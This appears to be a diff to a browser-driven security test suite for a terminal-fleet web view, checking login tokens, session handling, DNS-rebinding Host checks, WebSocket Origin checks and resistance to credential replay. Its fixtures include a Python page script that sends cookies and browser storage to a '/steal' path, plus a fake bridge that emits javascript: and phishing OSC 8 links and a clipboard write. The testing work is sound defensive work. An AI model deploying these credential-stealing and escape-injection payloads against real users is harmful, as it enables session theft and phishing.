@@ -3,12 +3,18 @@
 // it only under --write; without the token nothing is answered, a WebSocket from another Origin is
 // refused, an oversized frame closes the socket. Under CI a missing chromium fails the file.
 import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from "bun:test";
-import { existsSync, mkdirSync, readFileSync, statSync, writeFileSync } from "node:fs";
-import { join, resolve } from "node:path";
+import { appendFileSync, existsSync, mkdirSync, readFileSync, rmSync, statSync, writeFileSync } from "node:fs";
+import { dirname, join, resolve } from "node:path";
 import puppeteer, { type Browser, type Page } from "puppeteer-core";
 import { Fleet, until } from "../harness/fleet.ts";
-import { fleetcomArgv, processesWhere } from "../harness/helpers.ts";
-import { type SshServer, sshdAvailable, startSshServer } from "../harness/sshd.ts";
+import { fleetcomArgv, processesWhere, runFleetcom } from "../harness/helpers.ts";
+import { canCreateUsers, createOtherUser, type OtherUser } from "../harness/other-user.ts";
+import { freePort, type SshServer, sshdAvailable, startSshServer } from "../harness/sshd.ts";
+import { shellWords, Tmux } from "../harness/tmux.ts";
+import { sha256Hex } from "../../src/text-sha256.ts";
+import { LOGIN_TOKEN_MINUTES } from "../../src/web-token.ts";
+import { OPENS_PER_HOST } from "../../src/client-open-slots.ts";
+import { remoteBinary } from "../../src/client-ssh.ts";
 
 const CHROMIUM = "/usr/bin/chromium";
 const ARTIFACTS = resolve(import.meta.dir, "../../test-artifacts");
@@ -54,11 +60,15 @@ function sshProcesses(...words: string[]): number[] {
   });
 }
 
-/** `fleetcom web` with these flags (of the test's fleet, unless `on` names another): the URL it prints (with its login token) and its origin. */
+/**
+ * `fleetcom web` with these flags (of the test's fleet, unless `on` names another): the address it says
+ * it listens on (stdout is a pipe here, so it prints no login token), a login URL from `web --url`
+ * for that port, and its origin.
+ */
 async function startWeb(
   flags: string[] = [],
   on: { env: Record<string, string>; home: string } = { env: fleet.env, home: fleet.sandbox.home },
-): Promise<{ url: string; origin: string }> {
+): Promise<{ url: string; origin: string; said: string }> {
   const server = Bun.spawn(fleetcomArgv(["web", ...flags]), { env: on.env, cwd: on.home, stdout: "pipe", stderr: "pipe" });
   servers.push(server);
   const reader = server.stdout.getReader();
@@ -69,8 +79,16 @@ async function startWeb(
     out += new TextDecoder().decode(value);
   }
   reader.releaseLock();
-  const url = out.trim();
-  return { url, origin: new URL(url).origin };
+  const said = out.trim();
+  const address = /https?:\/\/\S+?:(\d+)\//.exec(said);
+  if (!address) throw new Error(`fleetcom web said no address: ${said}`);
+  const extra = flags.includes("--host-name") ? ["--host-name", flags[flags.indexOf("--host-name") + 1]!] : [];
+  const listen = flags.includes("--listen") ? ["--listen", flags[flags.indexOf("--listen") + 1]!] : [];
+  const tls = flags.includes("--tls-cert") ? ["--tls-cert", flags[flags.indexOf("--tls-cert") + 1]!, "--tls-key", flags[flags.indexOf("--tls-key") + 1]!] : [];
+  const login = await runFleetcom(["web", "--url", "--port", address[1]!, ...listen, ...tls, ...extra], { env: on.env, cwd: on.home });
+  if (login.code !== 0) throw new Error(`web --url failed: ${login.stderr}`);
+  const url = login.stdout.trim();
+  return { url, origin: new URL(url).origin, said };
 }
 
 /** A phone-sized page logged in through the URL's token. */
@@ -106,17 +124,23 @@ async function openTask(page: Page, id: number): Promise<void> {
   await page.waitForSelector(".xterm-rows");
 }
 
-/** The session cookie the browser got for the login token, for clients the test drives by hand. */
-async function sessionCookie(page: Page): Promise<string> {
-  const cookies = await page.browserContext().cookies();
-  const session = cookies.find((c) => c.name === "fleetcom_session");
-  if (!session) throw new Error("the page has no session cookie");
-  return `${session.name}=${session.value}`;
+/** The session token the page keeps (its origin's storage) for the login token, for clients the test drives by hand. */
+async function sessionOf(page: Page): Promise<string> {
+  const session = await page.evaluate(() => localStorage.getItem("fleetcom-session"));
+  if (!session) throw new Error("the page has no session");
+  return session;
 }
 
-/** A WebSocket opened by hand with these headers; resolves with whether it opened, and its messages. */
-function rawSocket(origin: string, headers: Record<string, string>) {
-  const ws = new WebSocket(`${origin.replace("http", "ws")}/ws`, { headers } as unknown as string[]);
+/** A WebSocket opened by hand with this Origin (none: null), session and headers; resolves with whether it opened, and its messages. */
+function rawSocket(
+  origin: string,
+  { from = origin, session, headers = {} }: { from?: string | null; session?: string | undefined; headers?: Record<string, string> },
+) {
+  const protocols = session === undefined ? [] : ["fleetcom", `session.${session}`];
+  const ws = new WebSocket(`${origin.replace("http", "ws")}/ws`, {
+    headers: { ...(from !== null && { Origin: from }), ...headers },
+    protocols,
+  } as unknown as string[]);
   const messages: { type: string; message?: string }[] = [];
   ws.onmessage = (e) => messages.push(JSON.parse(String(e.data)));
   const closed = new Promise<number>((r) => (ws.onclose = (e) => r(e.code)));
@@ -125,6 +149,12 @@ function rawSocket(origin: string, headers: Record<string, string>) {
     closed.then(() => r(false));
   });
   return { ws, messages, opened, closed };
+}
+
+/** The web view's answer to a login token (POST /login, as the page's script sends it): its status, and the session it gave. */
+async function logIn(origin: string, token: string): Promise<{ status: number; session: string | null }> {
+  const r = await fetch(`${origin}/login`, { method: "POST", headers: { "x-fleetcom-login": token, origin } });
+  return { status: r.status, session: r.ok ? ((await r.json()) as { session: string }).session : null };
 }
 
 describe.skipIf(!haveChromium)("fleetcom web in chromium", () => {
@@ -320,7 +350,7 @@ describe.skipIf(!haveChromium)("fleetcom web in chromium", () => {
     await openTask(page, id);
     await page.click("#term");
     await page.keyboard.type("from the page\n");
-    const raw = rawSocket(origin, { Origin: origin, Cookie: await sessionCookie(page) });
+    const raw = rawSocket(origin, { session: await sessionOf(page) });
     expect(await raw.opened).toBe(true);
     raw.ws.send(JSON.stringify({ type: "send", task: id, text: "from a socket" }));
     raw.ws.send(JSON.stringify({ type: "view", task: id }));
@@ -334,29 +364,68 @@ describe.skipIf(!haveChromium)("fleetcom web in chromium", () => {
     expect(await fleet.peek(id)).not.toContain("socket");
   });
 
-  test("no token, a wrong one or a spent one is 401 and nothing else; --revoke ends every session, open pages included", async () => {
+  test("a wrong, spent or revoked token gets nothing of the fleet; the login token leaves the address bar; --revoke ends open pages too", async () => {
     await fleet.run("sleep 600");
     const { url, origin } = await startWeb();
-    for (const bad of [`${origin}/`, `${origin}/?token=nope`, `${origin}/xterm.js`, `${origin}/ws`]) {
-      const response = await fetch(bad, { redirect: "manual" });
-      expect({ bad, status: response.status, body: await response.text() }).toEqual({ bad, status: 401, body: "" });
-    }
+    const token = new URL(url).searchParams.get("token")!;
+    // The page and its scripts are the binary's, the same for everyone; the fleet comes only over the WebSocket.
+    expect(await logIn(origin, "nope")).toEqual({ status: 401, session: null });
+    for (const session of [undefined, "nope"]) expect(await rawSocket(origin, { session }).opened).toBe(false);
+    expect((await fetch(`${origin}/session`, { headers: { "x-fleetcom-session": "nope" } })).status).toBe(401);
     const page = await openPage(url);
-    const again = await fetch(url, { redirect: "manual" });
-    expect(again.status).toBe(401);
+    expect(page.url()).toBe(`${origin}/`);
+    expect(await logIn(origin, token)).toEqual({ status: 401, session: null });
     await page.goto(url); // the same browser, the spent URL: let in on its session
     await page.waitForSelector(".card");
-    const cookie = await sessionCookie(page);
-    expect((await fetch(`${origin}/`, { headers: { cookie } })).status).toBe(200);
+    const session = await sessionOf(page);
     const stored = readFileSync(join(fleet.sandbox.config, "web-tokens"), "utf8");
-    expect(stored).not.toContain(cookie.split("=")[1]!);
+    expect(stored).not.toContain(session);
+    expect(stored).not.toContain(token);
     expect(statSync(join(fleet.sandbox.config, "web-tokens")).mode & 0o777).toBe(0o600);
-    const open = rawSocket(origin, { Origin: origin, Cookie: cookie });
+    const open = rawSocket(origin, { session });
     expect(await open.opened).toBe(true);
     await fleet.ok(["web", "--revoke"]);
-    const revoked = await fetch(`${origin}/`, { headers: { cookie } });
-    expect({ status: revoked.status, body: await revoked.text() }).toEqual({ status: 401, body: "" });
+    expect((await fetch(`${origin}/session`, { headers: { "x-fleetcom-session": session } })).status).toBe(401);
+    expect(await rawSocket(origin, { session }).opened).toBe(false);
     expect(await open.closed).toBe(4401); // the page already open is disconnected too
+    await page.waitForFunction(() => document.getElementById("summary")?.textContent?.startsWith("not logged in"));
+    expect(await page.evaluate(() => localStorage.getItem("fleetcom-session"))).toBeNull();
+  });
+
+  test("without a terminal, fleetcom web prints where it listens and no login token; on a terminal, a login URL", async () => {
+    await fleet.run("sleep 600");
+    const { origin, said } = await startWeb();
+    const port = new URL(origin).port;
+    expect(said).toBe(`listening on http://127.0.0.1:${port}/; fleetcom web --url --port ${port} prints a login URL`);
+    const tmux = new Tmux(fleet.env, fleet.sandbox.root);
+    try {
+      tmux.window("web", shellWords(fleetcomArgv(["web"])));
+      const shown = await tmux.waitFor("web", "the login URL", (text) => /\?token=[\w-]{43}/.test(text));
+      const url = /http:\/\/127\.0\.0\.1:\d+\/\?token=[\w-]{43}/.exec(shown.replace(/\n/g, ""))![0];
+      const page = await openPage(url);
+      expect(await page.title()).toBe("fleetcom");
+    } finally {
+      tmux.kill();
+    }
+  });
+
+  test(`a login token unspent for ${LOGIN_TOKEN_MINUTES} minutes, or kept from before tokens expired, lets no one in`, async () => {
+    await fleet.run("sleep 600");
+    const { url, origin } = await startWeb();
+    // Written into the file as the web view keeps tokens: their SHA-256, and when each was made.
+    const stale = "s".repeat(43);
+    const unexpiring = "u".repeat(43);
+    const lateBy = (LOGIN_TOKEN_MINUTES + 1) * 60_000;
+    appendFileSync(join(fleet.sandbox.config, "web-tokens"), `login ${sha256Hex(stale)} ${Date.now() - lateBy}\nlogin ${sha256Hex(unexpiring)}\n`);
+    for (const token of [stale, unexpiring]) {
+      const context = await browser.createBrowserContext();
+      const page = await context.newPage();
+      await page.goto(`${origin}/?token=${token}`);
+      await page.waitForFunction(() => document.getElementById("summary")?.textContent?.startsWith("not logged in"));
+      expect(await page.$$(".card")).toHaveLength(0);
+      await context.close();
+    }
+    expect(await (await openPage(url)).$$(".card")).toHaveLength(1);
   });
 
   test("web --url prints a new login URL for the web view listening on --port (the service's way in)", async () => {
@@ -365,22 +434,48 @@ describe.skipIf(!haveChromium)("fleetcom web in chromium", () => {
     const port = new URL(origin).port;
     const url = (await fleet.ok(["web", "--url", "--port", port])).trim();
     expect(url).toMatch(new RegExp(`^http://127\\.0\\.0\\.1:${port}/\\?token=[\\w-]{43}$`));
-    const login = await fetch(url, { redirect: "manual" });
-    expect(login.status).toBe(303);
+    expect((await logIn(origin, new URL(url).searchParams.get("token")!)).status).toBe(200);
     const r = await fleet.cli(["web", "--url"]);
     expect({ code: r.code, stdout: r.stdout }).toEqual({ code: 2, stdout: "" });
+  });
+
+  test("a request naming a Host the view does not serve is refused (DNS rebinding); addresses, localhost and --host-name are served", async () => {
+    await fleet.run("sleep 600");
+    const { url } = await startWeb();
+    const port = new URL(url).port;
+    const token = new URL(url).searchParams.get("token")!;
+    const status = (host: string, request: string, on = port) => rawHttp(Number(on), request.replace("HOST", host));
+    const page = "GET / HTTP/1.1\r\nHost: HOST\r\nConnection: close\r\n\r\n";
+    const login = (t: string) => `POST /login HTTP/1.1\r\nHost: HOST\r\nx-fleetcom-login: ${t}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n`;
+    for (const foreign of [`evil.example:${port}`, "evil.example", `127.0.0.1.evil.example:${port}`, `0x7f000001:${port}`, `localhost.:${port}`]) {
+      expect({ foreign, page: await status(foreign, page), login: await status(foreign, login(token)) }).toEqual({ foreign, page: 421, login: 421 });
+      expect(await status(foreign, `GET /?token=${token} HTTP/1.1\r\nHost: HOST\r\nConnection: close\r\n\r\n`)).toBe(421);
+    }
+    // Not a host name at all: refused too, by the server's parser or by the view.
+    for (const malformed of ["", "a@127.0.0.1", "127.0.0.1:1/x"]) expect(await status(malformed, login(token))).toBeGreaterThanOrEqual(400);
+    for (const served of [`127.0.0.1:${port}`, `localhost:${port}`, "[::1]:8000"])
+      expect({ served, page: await status(served, page) }).toEqual({ served, page: 200 });
+    // The refused requests spent nothing: the token still logs in, once.
+    expect(await status(`127.0.0.1:${port}`, login(token))).toBe(200);
+
+    // Behind a TLS front (tailscale serve keeps the browser's Host): the name it is given is served, and the URL names it.
+    const named = await startWeb(["--host-name", "fleet.example.ts.net"]);
+    expect(named.url).toStartWith("http://fleet.example.ts.net:");
+    const namedPort = new URL(named.url).port;
+    expect(await status("FLEET.example.ts.net", page, namedPort)).toBe(200);
+    expect(await status("other.example.ts.net", page, namedPort)).toBe(421);
+    expect(await status("fleet.example.ts.net", login(new URL(named.url).searchParams.get("token")!), namedPort)).toBe(200);
   });
 
   test("a WebSocket from another Origin is refused, and an oversized frame closes one", async () => {
     await fleet.run("sleep 600");
     const { url, origin } = await startWeb(["--write"]);
     const page = await openPage(url);
-    const cookie = await sessionCookie(page);
-    const foreign = rawSocket(origin, { Origin: "http://evil.example", Cookie: cookie });
-    expect(await foreign.opened).toBe(false);
-    const sameHostOtherPort = rawSocket(origin, { Origin: "http://127.0.0.1:1", Cookie: cookie });
-    expect(await sameHostOtherPort.opened).toBe(false);
-    const own = rawSocket(origin, { Origin: origin, Cookie: cookie });
+    const session = await sessionOf(page);
+    expect(await rawSocket(origin, { from: "http://evil.example", session }).opened).toBe(false);
+    expect(await rawSocket(origin, { from: "http://127.0.0.1:1", session }).opened).toBe(false);
+    expect(await rawSocket(origin, { from: null, session }).opened).toBe(false);
+    const own = rawSocket(origin, { session });
     expect(await own.opened).toBe(true);
     own.ws.send(JSON.stringify({ type: "input", data: "x".repeat(200 * 1024) }));
     expect(await own.closed).not.toBe(1000);
@@ -400,14 +495,218 @@ describe.skipIf(!haveChromium)("fleetcom web in chromium", () => {
     const fixtures = resolve(import.meta.dir, "../harness/fixtures");
     const { url } = await startWeb(["--listen", "0.0.0.0", "--tls-cert", `${fixtures}/web-test-cert.pem`, "--tls-key", `${fixtures}/web-test-key.pem`]);
     expect(url).toStartWith("https://0.0.0.0:");
-    const local = url.replace("0.0.0.0", "127.0.0.1");
+    const local = new URL(url.replace("0.0.0.0", "127.0.0.1"));
     const tls = { rejectUnauthorized: false };
-    expect((await fetch(new URL(local).origin, { tls } as RequestInit)).status).toBe(401);
-    const login = await fetch(local, { redirect: "manual", tls } as RequestInit);
-    expect(login.status).toBe(303);
-    expect(login.headers.get("set-cookie")).toContain("; Secure");
+    const login = await fetch(`${local.origin}/login`, {
+      method: "POST",
+      headers: { "x-fleetcom-login": local.searchParams.get("token")! },
+      tls,
+    } as RequestInit);
+    expect(login.status).toBe(200);
   });
 });
+
+// Another local user's web server on this loopback address (findings: a session cookie, kept per host
+// name and not per port, reached it and was replayed against a --write view).
+describe.skipIf(!haveChromium || !canCreateUsers())("fleetcom web and another local user's server", () => {
+  let attacker: OtherUser;
+  beforeAll(() => {
+    attacker = createOtherUser("fcweb");
+  });
+  afterAll(async () => {
+    await attacker?.remove();
+  });
+
+  test("a page another user serves on 127.0.0.1 gets no credential of the view, and nothing it got opens the --write view", async () => {
+    const id = await fleet.run('while read l; do echo "got:$l"; done');
+    const { url, origin } = await startWeb(["--write"]);
+    const { port, log } = await attackerServer(attacker);
+    const context = await browser.createBrowserContext();
+    try {
+      const page = await context.newPage();
+      await page.goto(url);
+      await page.waitForSelector(".card");
+      const session = await page.evaluate(() => localStorage.getItem("fleetcom-session"));
+      // The victim, still logged in, opens the other user's page in the same browser; its script sends back all it can read.
+      await page.goto(`http://127.0.0.1:${port}/`);
+      await until("the other user's page to report back", () => existsSync(log) && readFileSync(log, "utf8").includes('"/steal?'));
+      const seen = readFileSync(log, "utf8");
+      if (session !== null) expect(seen).not.toContain(session);
+      // Whatever it got, replayed against the view the way the page's own script reaches it.
+      const material = [...new Set(seen.match(/[\w-]{20,}/g) ?? [])];
+      const replays: string[] = [];
+      for (const value of material) {
+        const tries = { cookie: rawSocket(origin, { headers: { cookie: `fleetcom_session=${value}` } }), session: rawSocket(origin, { session: value }) };
+        for (const [how, socket] of Object.entries(tries)) {
+          if (!(await socket.opened)) continue;
+          replays.push(`${how} ${value}`);
+          socket.ws.send(JSON.stringify({ type: "send", task: id, text: "REPLAYED" }));
+        }
+      }
+      expect(replays).toEqual([]);
+      // The check itself reaches the view: the page's own session, kept where only its origin reads it, opens it.
+      expect(session).not.toBeNull();
+      expect(await rawSocket(origin, { session: session! }).opened).toBe(true);
+      await fleet.ok(["send", String(id), "after"]);
+      await until("the task's own line", async () => (await fleet.peek(id)).includes("got:after"));
+      expect(await fleet.peek(id)).not.toContain("REPLAYED");
+    } finally {
+      await context.close();
+    }
+  });
+});
+
+/**
+ * An HTTP server run as `user` on 127.0.0.1 (python3): it logs every request's path and headers, one
+ * JSON line each, and its page sends back what its script can read (cookies, this origin's storage).
+ */
+async function attackerServer(user: OtherUser): Promise<{ port: number; log: string }> {
+  const dir = join(user.shared, "attacker");
+  mkdirSync(dir, { mode: 0o700 });
+  Bun.spawnSync(["chown", `${user.uid}:${user.gid}`, dir]);
+  const log = join(dir, "requests.log");
+  const script = join(user.shared, "server.py");
+  writeFileSync(
+    script,
+    `import http.server, json, sys
+port, log = int(sys.argv[1]), sys.argv[2]
+PAGE = b"""<!doctype html><script>
+fetch('/steal?' + new URLSearchParams({ cookie: document.cookie, storage: JSON.stringify(Object.assign({}, localStorage, sessionStorage)) }));
+</script>"""
+class Logger(http.server.BaseHTTPRequestHandler):
+    def do_GET(self):
+        with open(log, "a") as f:
+            f.write(json.dumps({"path": self.path, "headers": dict(self.headers)}) + "\\n")
+        body = PAGE if self.path == "/" else b"ok"
+        self.send_response(200)
+        self.send_header("content-type", "text/html")
+        self.send_header("content-length", str(len(body)))
+        self.end_headers()
+        self.wfile.write(body)
+    def log_message(self, *args):
+        pass
+http.server.ThreadingHTTPServer(("127.0.0.1", port), Logger).serve_forever()
+`,
+  );
+  const port = await freePort();
+  user.spawn(["/usr/bin/python3", script, String(port), log]);
+  await until("the other user's server to listen", async () => (await fetch(`http://127.0.0.1:${port}/ready`).catch(() => null))?.ok);
+  return { port, log };
+}
+
+/** The status an HTTP/1.1 request written as is (its Host too) gets from 127.0.0.1:port. */
+async function rawHttp(port: number, request: string): Promise<number> {
+  let answer = "";
+  const { promise, resolve } = Promise.withResolvers<void>();
+  const socket = await Bun.connect({
+    hostname: "127.0.0.1",
+    port,
+    socket: {
+      data: (_s, bytes) => void (answer += bytes.toString()),
+      close: () => resolve(),
+      error: () => resolve(),
+    },
+  });
+  socket.write(request);
+  await promise;
+  return Number(/^HTTP\/1\.1 (\d{3})/.exec(answer)?.[1] ?? 0);
+}
+
+/**
+ * A hostile host's "fleetcom bridge" (python3, run by the host's user): a welcome as the real one
+ * gives, one task, and for attach and redraw a screen with OSC 8 links (https: and javascript:), a
+ * title, a clipboard write and queries, as a remote that lies would send it.
+ */
+const HOSTILE_BRIDGE = `#!/usr/bin/python3
+import json, struct, sys
+inp, out = sys.stdin.buffer, sys.stdout.buffer
+def frame(payload, kind=1):
+    body = json.dumps(payload).encode() if kind == 1 else payload
+    out.write(struct.pack(">IB", len(body), kind) + body)
+    out.flush()
+def read():
+    head = inp.read(5)
+    if len(head) < 5:
+        sys.exit(0)
+    size, kind = struct.unpack(">IB", head)
+    return kind, inp.read(size)
+TASK = {"id": 1, "run": 1, "command": "cat", "typed": "cat", "name": "lure", "group": None, "cwd": "/", "tagged": False, "state": "running",
+        "idle": False, "exitCode": None, "signal": None, "pid": 1, "startedAt": "2026-01-01T00:00:00Z", "endedAt": None, "lastOutputAt": None,
+        "preview": "lure", "agent": None, "conversation": None, "attention": None, "worktree": None, "cols": 80, "rows": 24}
+SCREEN = ("\\x1b[H\\x1b[2JHOSTILE SCREEN \\x1b]8;;javascript:document.title='HOSTILE-JS'\\x07CLICK-JS\\x1b]8;;\\x07 "
+          "\\x1b]8;;https://evil.example/phish\\x07CLICK-HTTP\\x1b]8;;\\x07 \\x1b]0;HOSTILE-TITLE\\x07\\x1b]52;c;SE9TVElMRQ==\\x07\\x1b[6n end")
+_, hello = read()
+hello = json.loads(hello)
+frame({"type": "welcome", "protocol": hello["protocol"], "version": hello["version"], "pid": 1, "socket": "/nonexistent/evil.sock", "instance": "evil"})
+while True:
+    kind, body = read()
+    if kind != 1:
+        continue
+    m = json.loads(body)
+    if m.get("type") != "request":
+        continue
+    op = m.get("op")
+    if op in ("ls", "subscribe"):
+        frame({"type": "reply", "id": m["id"], "ok": True, "result": [TASK]})
+    elif op == "status":
+        frame({"type": "reply", "id": m["id"], "ok": True, "result": {"crash": None}})
+    elif op in ("attach", "redraw"):
+        frame({"type": "reply", "id": m["id"], "ok": True, "result": TASK if op == "attach" else None})
+        frame({"type": "screen"})
+        frame(SCREEN.encode(), 2)
+    else:
+        frame({"type": "reply", "id": m["id"], "ok": False, "error": "no"})
+`;
+
+/**
+ * A host's "fleetcom bridge" (python3) that counts the connections being opened at once: each marks
+ * itself in DIR until its first request is answered, and writes how many were marked when it began;
+ * it waits a second before its welcome, as a slow host does. Its fleet is 12 tasks of group `g`,
+ * each of which `logs` answers with one line, then the connection ends.
+ */
+const COUNTING_BRIDGE = `#!/usr/bin/python3
+import json, os, struct, sys, time
+DIR = os.path.join(os.path.dirname(os.path.abspath(__file__)), "opens")
+os.makedirs(DIR, exist_ok=True)
+mark = os.path.join(DIR, "open.%d" % os.getpid())
+open(mark, "w").close()
+with open(os.path.join(DIR, "..", "seen"), "a") as seen:
+    seen.write("%d\\n" % len([n for n in os.listdir(DIR) if n.startswith("open.")]))
+inp, out = sys.stdin.buffer, sys.stdout.buffer
+def frame(payload, kind=1):
+    body = json.dumps(payload).encode() if kind == 1 else payload
+    out.write(struct.pack(">IB", len(body), kind) + body)
+    out.flush()
+def read():
+    head = inp.read(5)
+    if len(head) < 5:
+        sys.exit(0)
+    size, kind = struct.unpack(">IB", head)
+    return kind, inp.read(size)
+def task(i):
+    return {"id": i, "run": 1, "command": "cat", "typed": "cat", "name": "t%d" % i, "group": "g", "cwd": "/", "tagged": False, "state": "running",
+            "idle": False, "exitCode": None, "signal": None, "pid": 1, "startedAt": "2026-01-01T00:00:00Z", "endedAt": None, "lastOutputAt": None,
+            "preview": "", "agent": None, "conversation": None, "attention": None, "worktree": None, "cols": 80, "rows": 24}
+_, hello = read()
+hello = json.loads(hello)
+time.sleep(1)
+frame({"type": "welcome", "protocol": hello["protocol"], "version": hello["version"], "pid": 1, "socket": "/nonexistent/counting.sock", "instance": "counting"})
+while True:
+    kind, body = read()
+    m = json.loads(body) if kind == 1 else {}
+    if m.get("type") != "request":
+        continue
+    if os.path.exists(mark):
+        os.unlink(mark)
+    if m.get("op") == "ls":
+        frame({"type": "reply", "id": m["id"], "ok": True, "result": [task(i) for i in range(1, 13)]})
+    elif m.get("op") == "logs":
+        frame({"type": "reply", "id": m["id"], "ok": True, "result": task(m["args"]["task"]["id"])})
+        frame(("line of task %d\\n" % m["args"]["task"]["id"]).encode(), 2)
+        sys.exit(0)
+    else:
+        frame({"type": "reply", "id": m["id"], "ok": False, "error": "no"})
+`;
 
 // One sshd and one `hosts add` for the describe (the upload is the slow part): a second local user is
 // the remote host (test/harness/sshd.ts), beside a host whose port refuses and one that never answers.
@@ -512,5 +811,141 @@ describe.skipIf(!canReachHosts)("fleetcom web with hosts over OpenSSH", () => {
     await page.waitForSelector(`.card[data-host="remote1"][data-task="${remote}"]`);
     expect(await page.$$eval("#fleet > .note", (shown) => shown.map((n) => n.textContent))).not.toContainEqual(expect.stringMatching(/^remote1/));
     await here.ok(["kill", `remote1:${remote}`]);
+  });
+  test("a burst of 320 view messages from 8 read-only pages, with no forward to the host, starts a bounded number of ssh and bridges; each page gets its newest", async () => {
+    const tasks: number[] = [];
+    for (let i = 0; i < 4; i++)
+      tasks.push(Number((await here.ok(["--host", "remote1", "run", "--name", `burst${i}`, "--", `echo burst${i}; exec cat`])).trim()));
+    const { url, origin } = await startWeb([], { env: { ...here.env, FLEETCOM_HOST_TIMEOUT_MS: "60000" }, home: here.sandbox.home });
+    const { session } = await logIn(origin, new URL(url).searchParams.get("token")!);
+    const pages = await Promise.all(
+      Array.from({ length: 8 }, async () => {
+        const socket = rawSocket(origin, { session: session! });
+        expect(await socket.opened).toBe(true);
+        return socket;
+      }),
+    );
+    await until("remote1's fleet in the web view", () => pages.every((p) => JSON.stringify(p.messages).includes("burst3")));
+    // No forward and no master: every connection the view opens now is an ssh of its own and a bridge there.
+    const master = Bun.spawnSync(["ssh", "-F", sshConfig, "-o", `ControlPath=${here.sandbox.runtime}/ssh-%C`, "-O", "check", "remote1"], { stderr: "pipe" });
+    const masterPid = Number(/pid=(\d+)/.exec(master.stderr.toString())?.[1]);
+    if (masterPid > 0) process.kill(masterPid, "SIGKILL");
+    for (const file of ["host-remote1.forward", "host-remote1.sock"]) rmSync(join(here.sandbox.runtime, file), { force: true });
+    const remoteBefore = server.userPids().length;
+    const last = new Map<(typeof pages)[number], number>();
+    pages.forEach((page, p) => {
+      for (let i = 0; i < 40; i++) {
+        const task = tasks[(p + i) % tasks.length]!;
+        page.ws.send(JSON.stringify({ type: "view", task, host: "remote1" }));
+        last.set(page, task);
+      }
+    });
+    const shown = (page: (typeof pages)[number]) => page.messages.some((m) => m.type === "screen" && (m as { task?: number }).task === last.get(page));
+    let peakSsh = 0;
+    let peakRemote = 0;
+    const deadline = Date.now() + 60_000;
+    while (Date.now() < deadline && !pages.every(shown)) {
+      peakSsh = Math.max(peakSsh, sshProcesses("remote1", "bridge").length);
+      peakRemote = Math.max(peakRemote, server.userPids().length - remoteBefore);
+      await Bun.sleep(20);
+    }
+    // At most one open per page in flight (the newest wins), OPENS_PER_HOST per host; each page keeps one screen's connection.
+    const bound = pages.length + OPENS_PER_HOST + 2;
+    expect(peakSsh).toBeLessThanOrEqual(bound);
+    expect(peakRemote).toBeLessThanOrEqual(bound);
+    expect(pages.filter(shown)).toHaveLength(pages.length);
+    console.log(`view burst: peak ${peakSsh} local ssh, ${peakRemote} remote processes (bound ${bound})`);
+    for (const page of pages) page.ws.close();
+    await here.ok(["kill", ...tasks.map((t) => `remote1:${t}`)]);
+  }, 120_000);
+
+  test("a host whose screen carries OSC 8 links, a title and a clipboard write reaches the page as cells only: no link in Chromium", async () => {
+    // A hostile "fleetcom" on the host: it speaks the protocol and answers attach and redraw with such a screen.
+    const evilHome = join(server.home, "evil");
+    const binary = remoteBinary(evilHome);
+    mkdirSync(dirname(binary), { recursive: true });
+    writeFileSync(binary, HOSTILE_BRIDGE, { mode: 0o755 });
+    Bun.spawnSync(["chown", "-R", `${server.user}:`, evilHome]);
+    const config = join(here.sandbox.config, "config.toml");
+    const kept = readFileSync(config, "utf8");
+    writeFileSync(config, `${kept}\n[hosts.evil]\nssh = "remote1"\nhome = "${evilHome}"\n`);
+    try {
+      const { url } = await startWeb([], { env: { ...here.env, FLEETCOM_HOST_TIMEOUT_MS: "60000" }, home: here.sandbox.home });
+      // Every frame the web view sends the page, as the browser received it.
+      const page = await browser.newPage();
+      const frames: string[] = [];
+      const cdp = await page.createCDPSession();
+      await cdp.send("Network.enable");
+      cdp.on("Network.webSocketFrameReceived", (e) => frames.push(e.response.payloadData));
+      await page.goto(url);
+      await page.waitForSelector(".card");
+      const dialogs: string[] = [];
+      page.on("dialog", (d) => {
+        dialogs.push(d.message());
+        void d.dismiss();
+      });
+      await tapCard(page, '.card[data-host="evil"][data-task="1"]');
+      await until("the hostile screen on the page", async () => (await pageScreen(page)).includes("CLICK-HTTP"));
+      expect(await pageScreen(page)).toContain("HOSTILE SCREEN CLICK-JS CLICK-HTTP");
+      // The web view sent the page none of the host's operating system commands (OSC, as JSON escapes them).
+      const screens = frames.filter((f) => f.includes('"type":"screen"'));
+      expect(screens.length).toBeGreaterThan(0);
+      expect(screens.filter((f) => /\\u001b\]|\u009d/.test(f))).toEqual([]);
+      // No cell of the page's terminal carries a link, whatever the host sent.
+      const linked = await page.evaluate(() => {
+        const term = (
+          window as unknown as {
+            fleetcomTerm: { rows: number; cols: number; buffer: { active: { getLine(y: number): { getCell(x: number): unknown } | undefined } } };
+          }
+        ).fleetcomTerm;
+        let cells = 0;
+        for (let y = 0; y < term.rows; y++)
+          for (let x = 0; x < term.cols; x++) if ((term.buffer.active.getLine(y)?.getCell(x) as { extended?: { urlId?: number } })?.extended?.urlId) cells++;
+        return cells;
+      });
+      expect(linked).toBe(0);
+      expect(await page.title()).not.toContain("HOSTILE");
+      // And a click on the text opens nothing.
+      const at = await page.evaluate(() => {
+        const rows = [...document.querySelectorAll(".xterm-rows > div")];
+        const y = rows.findIndex((r) => r.textContent?.includes("CLICK-HTTP"));
+        const x = rows[y]!.textContent!.replace(/\u00a0/g, " ").indexOf("CLICK-HTTP") + 3;
+        const box = document.querySelector(".xterm-screen")!.getBoundingClientRect();
+        const term = (window as unknown as { fleetcomTerm: { rows: number; cols: number } }).fleetcomTerm;
+        return { x: box.left + ((x + 0.5) * box.width) / term.cols, y: box.top + ((y + 0.5) * box.height) / term.rows };
+      });
+      await page.mouse.move(at.x, at.y);
+      await page.mouse.click(at.x, at.y);
+      expect(await page.evaluate(() => document.querySelector(".xterm-screen")?.classList.contains("xterm-cursor-pointer"))).toBe(false);
+      expect(dialogs).toEqual([]);
+    } finally {
+      writeFileSync(config, kept);
+    }
+  });
+  test("logs -f of a group on a host opens its connections a few at a time, each until its daemon answered; every task's line is printed", async () => {
+    const countingHome = join(server.home, "counting");
+    const binary = remoteBinary(countingHome);
+    mkdirSync(dirname(binary), { recursive: true });
+    writeFileSync(binary, COUNTING_BRIDGE, { mode: 0o755 });
+    Bun.spawnSync(["chown", "-R", `${server.user}:`, countingHome]);
+    const config = join(here.sandbox.config, "config.toml");
+    const kept = readFileSync(config, "utf8");
+    writeFileSync(config, `${kept}\n[hosts.counting]\nssh = "remote1"\nhome = "${countingHome}"\n`);
+    try {
